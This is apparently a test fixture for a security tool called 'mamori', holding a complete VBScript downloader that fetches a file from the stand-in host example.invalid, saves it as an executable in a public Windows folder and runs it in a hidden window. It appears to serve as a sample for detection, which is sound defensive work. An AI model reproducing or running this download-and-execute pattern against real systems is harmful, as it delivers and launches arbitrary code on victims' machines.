' mamori test fixture: a VBScript downloader (example.invalid)
Dim x, s, sh
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://example.invalid/a.bin", False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write x.responseBody
s.SaveToFile "C:\Users\Public\a.exe", 2
Set sh = CreateObject("WScript.Shell")
sh.Run "cmd /c C:\Users\Public\a.exe", 0
